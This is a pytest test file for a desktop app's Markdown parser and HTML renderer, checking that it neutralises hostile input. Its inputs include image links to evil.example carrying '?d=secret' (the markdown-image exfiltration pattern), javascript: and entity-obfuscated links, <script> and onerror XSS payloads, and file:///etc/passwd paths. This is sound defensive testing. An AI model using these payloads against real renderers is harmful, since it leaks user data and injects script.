"""Rows M01 to M18 of the fault catalogue, as far as they concern parsing."""

import random
import re
import time

import pytest

from panda_desktop.markdown.blocks import CodeBlock, Paragraph, Span, SpanKind
from panda_desktop.markdown.html import image_label, to_html
from panda_desktop.markdown.links import allowed, data_image, host_of
from panda_desktop.markdown.plain import to_plain
from panda_desktop.markdown.stream import MarkdownStream, parse
from panda_desktop.markdown.visible import in_code, in_prose
from tests.markdown.samples import HOSTILE_FRAGMENTS

SHAPES = [
    "a**b",
    "*a **a ",
    "a** ",
    "[a",
    "a]",
    "[ (](",
    "![[",
    "> ",
    "- ",
    "&",
    "<",
    "<a:",
    "$a",
    "$$",
    "\\(",
    "~~a",
    "http://a.b/",
    "a@b.c ",
    "*",
    "_*",
    "[a](<b",
    "[x][y] ",
    "[^a]:\n",
    "[a]: u\n",
    "|",
    "\\|",
    "`a",
    "//a",
    "\t",
    "(",
    "#",
    "1. ",
    "![a](",
    "<!--",
    "<?",
    "]]>",
    "[a]:",
    "&#1;",
]


def spans_of(text: str) -> tuple[Span, ...]:
    block = parse(text)[0]
    assert isinstance(block, Paragraph)
    return block.spans


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?d=secret)",
        "![a][r]\n\n[r]: https://evil.example/?d=secret",
        "[![a](https://evil.example/x)](https://evil.example/y)",
        "| ![a](https://evil.example/x) |\n|---|\n",
        "- ![a](https://evil.example/x)",
    ],
)
def test_M01_images_become_chips_naming_the_host(text: str) -> None:
    html = to_html(parse(text))
    assert "<img" not in html and "src" not in html
    assert "evil.example" in html and "secret" not in html


def test_M01_image_in_code_is_code() -> None:
    assert "![](https://evil/x)" in to_html(parse("```\n![](https://evil/x)\n```"))


@pytest.mark.parametrize(
    "address",
    [
        "file:///etc/passwd",
        "/abs",
        "\\\\host\\share",
        "//host/x",
        "smb://h/x",
        "qrc:/x",
        "C:\\x",
        "data:text/html,x",
    ],
)
def test_M02_local_and_network_paths_are_never_targets(address: str) -> None:
    assert allowed(address) == ""
    assert "<a" not in to_html(parse(f"![x](<{address}>) [y](<{address}>)"))


def test_M03_only_small_raster_data_is_an_image() -> None:
    assert data_image("data:image/png;base64,AAAA")
    assert not data_image("data:image/svg+xml;base64,AAAA")
    assert not data_image("data:image/png;base64," + "A" * 3_000_000)
    assert not data_image("data:image/png,<svg>")


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "vbscript:x",
        "data:text/html,x",
        "file:///etc/passwd",
        "ms-msdt:/id",
        "search-ms:query",
        "vscode://x",
        "cherrystudio://x",
        "x-apple.prefs:y",
        "\\\\unc\\x",
        "https:\\\\evil",
        "https://",
        "http:///x",
        "mailto:",
        " https://a.b",
        "https://a.b\n",
        "relative/p",
        "//evil.example/x",
        "https://a.b/\u2028",
    ],
)
def test_M04_only_https_http_and_mailto_are_links(address: str) -> None:
    assert allowed(address) == ""


@pytest.mark.parametrize(
    "address", ["https://a.b/c?d=e#f", "http://localhost:8000/", "mailto:a@b.c", "#anchor"]
)
def test_M04_allowed_links(address: str) -> None:
    assert allowed(address) == address


def test_M04_refused_link_shows_its_address_as_text() -> None:
    spans = spans_of("[click](javascript:alert(1))")
    assert [span.target for span in spans] == [""]
    assert spans[0].text == "click (javascript:alert(1))"


def test_M04_entity_and_escape_tricks_do_not_pass() -> None:
    for text in ("[a](&#106;avascript:alert(1))", "[a](javascript&colon;alert(1))", "<javascript:alert(1)>"):
        assert "<a" not in to_html(parse(text))


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<iframe src=x>",
        "<img src=x onerror=y>",
        "<style>*{}</style>",
        "<base href=x>",
        "<meta http-equiv=refresh>",
        "<form action=x><input>",
        "<object data=x>",
        "<body bgcolor=red>",
        "<!-- c -->",
    ],
)
def test_M05_raw_html_is_text(html: str) -> None:
    for text in (html, f"a {html} b", f"- {html}", f"> {html}", f"| {html} |\n|---|"):
        rendered = to_html(parse(text))
        assert html.split()[0] not in rendered
        assert "&lt;" in rendered
    assert html in to_plain(parse(html))


def test_M06_attributes_cannot_be_broken_out_of() -> None:
    for text in ('![" onerror="x](https://e.x/y)', '[a](https://e.x/"onclick="x)', '```py" onclick="x\n```'):
        rendered = to_html(parse(text))
        assert not re.search(r'<[^>]*" on', rendered)


def test_M06_link_title_is_not_an_attribute() -> None:
    assert "title" not in to_html(parse('[a](https://e.x "title\\" onclick=")'))


@pytest.mark.parametrize("size", [10_000, 300_000])
def test_M09_repeated_marks(size: int) -> None:
    """Besides the shapes of `pathological`: one mark over and over."""
    for shape in SHAPES:
        text = shape * (size // len(shape))
        began = time.thread_time()
        parse(text)
        assert time.thread_time() - began < 1.0, shape


def test_M09_wide_table_does_not_explode() -> None:
    text = "| a " * 20_000 + "|\n" + "|-" * 20_000 + "|\n" + "|\n" * 2000
    began = time.process_time()
    parse(text)
    assert time.process_time() - began < 1.0


def test_M09_deep_nesting_is_bounded() -> None:
    block = parse("> " * 5000 + "x")[0]
    depth = 0
    while hasattr(block, "blocks") and block.blocks:
        block = block.blocks[0]
        depth += 1
    assert depth <= 41
    parse("- " * 5000 + "x")


def test_M11_code_of_5_mb_and_a_line_of_1_mb() -> None:
    code = "x = 1\n" * 800_000
    block = parse(f"```py\n{code}```")[0]
    assert isinstance(block, CodeBlock) and len(block.lines) == 800_000
    line = parse("```\n" + "y" * 1_000_000 + "\n```")[0]
    assert isinstance(line, CodeBlock) and len(line.lines[0]) == 1_000_000


def test_M13_control_characters_are_visible() -> None:
    assert in_prose("\x1b]8;;x\x07 \x00\x08") == "␛]8;;x␇ ␀␈"
    assert in_code("a\u202eb\u200b") == "a\u2426b\u2426"
    assert in_prose("👩\u200d👧 ع\u200fb") == "👩\u200d👧 ع\u200fb"
    assert all(len(in_code(chr(code))) == 1 for code in range(0xD800))
    html = to_html(parse("a \x1b[31m `\u202ecode` [x\u202e](https://a.b)"))
    assert "\x1b" not in html and "\u202e" not in html


def test_M14_mermaid_and_svg_are_code() -> None:
    for language in ("mermaid", "svg", "html"):
        block = parse(f"```{language}\n<svg onload=alert(1)>\n```")[0]
        assert isinstance(block, CodeBlock)
        assert "&lt;svg onload" in to_html([block])


def test_M15_anchors_do_not_become_outside_links() -> None:
    html = to_html(parse("[up](#top) [^1]\n\n[^1]: note"))
    assert "<a" not in html and "id=" not in html


def test_M18_random_documents_raise_nothing() -> None:
    maker = random.Random(18)
    for _ in range(1500):
        text = "".join(maker.choice(HOSTILE_FRAGMENTS) for _ in range(maker.randint(1, 60)))
        stream = MarkdownStream()
        stream.feed(text)
        stream.finish()
        html = to_html(stream.blocks)
        to_plain(stream.blocks).encode()
        assert set(re.findall(r"<(\w+)", html)) <= {
            "p",
            "a",
            "em",
            "strong",
            "del",
            "code",
            "pre",
            "ul",
            "ol",
            "li",
            "blockquote",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "sup",
            "div",
            "br",
        }
        assert all(
            address.startswith(("https://", "http://", "mailto:"))
            for address in re.findall(r'href="([^"]*)"', html)
        )


def test_image_labels() -> None:
    assert image_label(Span("a chart", SpanKind.IMAGE, target="https://e.x/y?secret")) == "a chart (e.x)"
    assert image_label(Span("", SpanKind.IMAGE, target="https://e.x/y")) == "e.x"
    assert host_of("//evil.example/x") == "evil.example"
    assert host_of("https://[bad") == ""


def test_html_and_plain_of_everything() -> None:
    text = "1. a\n2. b\n\n   - [x] c\n\n---\n\n| h |\n|:-:|\n| `c` |\n\n> q  \n> r"
    assert to_plain(parse(text)).startswith("1. a\n2. b\n\n   • ☑ c")
    html = to_html(parse(text))
    assert '<th align="center">h</th>' in html and "<br />" in html and "<hr />" in html
